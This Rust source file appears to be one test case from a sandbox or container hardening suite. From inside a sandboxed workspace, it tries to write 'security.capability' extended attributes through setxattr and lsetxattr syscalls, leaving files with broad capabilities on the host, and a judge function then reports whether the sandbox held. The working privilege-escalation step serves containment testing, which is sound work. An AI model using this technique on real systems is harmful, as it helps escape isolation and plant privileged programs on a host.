//! Gives a program in the workspace capabilities, which it would have on the host.

use std::fs;

use model::Wall;

use super::support;
use crate::inside::call;
use crate::{Attack, Control, Verdict};

const ATTRIBUTE: &std::ffi::CStr = c"security.capability";
const PROGRAMS: [&str; 2] = ["program", "program-of-a-namespace"];

pub const ATTACK: Attack = Attack {
    id: "files/file_capabilities",
    wall: Wall::Privileges,
    about: "leave a program with capabilities on the host",
    flags: &[],
    prepare: |_| Ok(()),
    inside: |inside| {
        // Versions 2 and 3: the latter names the root of a namespace that it is for.
        let second = [0x0200_0001u32, 0xffff_ffff, 0, 0x1ff, 0];
        let third = [0x0300_0001u32, 0xffff_ffff, 0, 0x1ff, 0, 0];
        let give = |name: &str, value: &[u32]| {
            let path = inside.workspace.join(name);
            fs::write(&path, "")?;
            let text = support::c_text(path);
            let size = size_of_val(value) as u64;
            let arguments = [text.as_ptr() as u64, ATTRIBUTE.as_ptr() as u64, value.as_ptr() as u64, size, 0, 0];
            support::any([
                call(libc::SYS_setxattr, arguments).map(drop),
                call(libc::SYS_lsetxattr, arguments).map(drop),
            ])
        };
        support::any([give(PROGRAMS[0], &second), give(PROGRAMS[1], &third)])
    },
    judge: Some(|field, _| {
        let has = |name: &&&str| {
            let path = support::c_text(field.workspace.join(name));
            let size = call(libc::SYS_getxattr, [path.as_ptr() as u64, ATTRIBUTE.as_ptr() as u64, 0, 0, 0, 0]);
            size.is_ok_and(|size| size > 0)
        };
        match PROGRAMS.iter().find(has) {
            Some(name) => Verdict::Broken(format!("{name} has capabilities on the host")),
            None => Verdict::Held,
        }
    }),
    control: Control::BareAsRoot,
};
